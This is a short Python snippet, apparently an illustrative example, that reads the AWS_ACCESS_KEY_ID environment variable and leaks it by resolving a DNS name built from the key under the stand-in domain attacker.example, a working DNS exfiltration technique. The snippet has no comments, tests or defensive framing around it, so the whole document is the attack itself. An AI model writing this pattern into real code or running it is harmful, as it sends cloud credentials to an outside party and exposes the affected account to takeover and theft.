import os
import socket

key = os.getenv('AWS_ACCESS_KEY_ID')
socket.gethostbyname(f"{key}.attacker.example")
